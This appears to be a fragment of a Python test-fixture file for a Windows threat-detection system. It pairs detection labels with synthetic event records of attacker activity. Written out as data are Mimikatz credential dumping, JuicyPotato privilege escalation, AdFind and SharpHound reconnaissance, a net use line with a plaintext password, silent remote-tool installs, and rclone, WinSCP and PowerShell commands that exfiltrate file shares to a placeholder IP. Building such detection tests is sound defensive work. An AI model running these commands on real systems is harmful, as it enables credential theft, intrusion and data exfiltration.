    published("msbuild", "run.download", started(r"C:\Windows\Microsoft.NET\Framework\v4.0.30319\MSBuild.exe", r"msbuild  c:\users\public\b.csproj")),
    published("installutil", "run.hidden_script", started(r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\InstallUtil.exe", r"InstallUtil.exe /logfile= /LogToConsole=false /U C:\Users\jlopez\Downloads\a.dll")),
    published("cmstp", "run.hidden_script", started(rf"{SYS32}\cmstp.exe", r"cmstp  /ni /s c:\users\jlopez\downloads\x.inf")),
    published("mimikatz", "tool.named", block("Invoke-Mimikatz -DumpCreds")),
    published("defender-1116", "tool.named", event(DEFENDER, 1116, **{"Product Name": "%%827", "Threat ID": "2147705511", "Threat Name": "HackTool:Win32/Mimikatz.D", "Severity Name": "High", "Category Name": "Tool", "Path": r"file:_C:\Users\jlopez\Desktop\m.exe", "Detection User": USER, "Process Name": "Unknown"})),
    published("cs-pipe", "tool.named", event(SYSMON, 17, RuleName="-", EventType="CreatePipe", UtcTime="x", ProcessGuid="x", ProcessId="9", PipeName=r"\MSSE-1337-server", Image=r"C:\Users\jlopez\AppData\Local\Temp\b.exe")),
    published("potato", "tool.named", started(r"C:\Users\Public\JuicyPotato.exe", r"JuicyPotato.exe -l 1337 -p c:\windows\system32\cmd.exe -t * -c {4991d34b-80a1-4291-83b6-3328366b9097}")),
    published("adfind", "look.scan", created(r"C:\Windows\Temp\af.exe", "af.exe -f objectcategory=computer -csv name cn OperatingSystem dNSHostName")),
    published("net-group", "look.scan", created(rf"{SYS32}\net.exe", 'net  group "Domain Admins" /domain')),
    published("sharphound", "look.scan", wrote(r"C:\Users\jlopez\sh.exe", r"C:\Users\jlopez\20231114221034_BloodHound.zip")),
    published("look-4799", "look.scan", *[audited(4799, TargetUserName=name, TargetDomainName="Builtin", TargetSid="S-1-5-32-544", SubjectUserSid=SID, SubjectUserName="jlopez", SubjectDomainName="DISTRICT", SubjectLogonId="0x1", CallerProcessId="0x1eec", CallerProcessName=r"C:\Users\jlopez\Downloads\SharpHound.exe") for name in ("Administrators", "Remote Desktop Users", "Distributed COM Users", "Remote Management Users", "Guests")]),
    published("admin-share-exe", "move.share", share("ADMIN$", "svc_upd.exe")),
    published("net-use", "move.share", created(rf"{SYS32}\net.exe", r"net  use \\FS01\c$ /user:DISTRICT\jlopez Passw0rd!")),
    published("screenconnect", "entry.remote_tool", installed("ScreenConnect Client (8f2ab7d02f3b1ac5)", r'"C:\Program Files (x86)\ScreenConnect Client (8f2ab7d02f3b1ac5)\ScreenConnect.ClientService.exe" "?e=Access&y=Guest&h=relay.example&p=443"', start="auto start")),
    published("anydesk", "entry.remote_tool", started(r"C:\ProgramData\AnyDesk.exe", r"C:\ProgramData\AnyDesk.exe --install C:\ProgramData\AnyDesk --start-with-win --silent")),
    published("webshell", "entry.webshell", started(rf"{SYS32}\cmd.exe", 'cmd.exe /c "whoami"', rf"{SYS32}\inetsrv\w3wp.exe", user=r"IIS APPPOOL\DefaultAppPool")),
    published("office-child", "entry.opened", created(PSH, "powershell -w h -nop", r"C:\Program Files\Microsoft Office\Office16\WINWORD.EXE")),
    published("rclone", "theft.tool", created(r"C:\ProgramData\svchost.exe", r'svchost.exe copy "\\FS01\Staff" remote:data -q --ignore-existing --auto-confirm --multi-thread-streams 12 --transfers 12')),
    published("winscp", "theft.tool", started(r"C:\Users\Public\WinSCP.com", 'WinSCP.com /command "open sftp://u:p@203.0.113.4/ -hostkey=*" "put C:\\share.zip" "exit"')),
    published("post-script", "theft.script", block("Get-ChildItem -Recurse \\\\FS01\\Staff -Include *.pdf | % { Invoke-RestMethod -Uri http://203.0.113.4/up -Method Post -InFile $_.FullName }")),
    published("rar", "stage.archive", created(r"C:\Windows\Temp\r.exe", r"r.exe a -r -v500m -hpSecret C:\PerfLogs\s.rar \\FS01\Staff\*")),
)  # fmt: skip
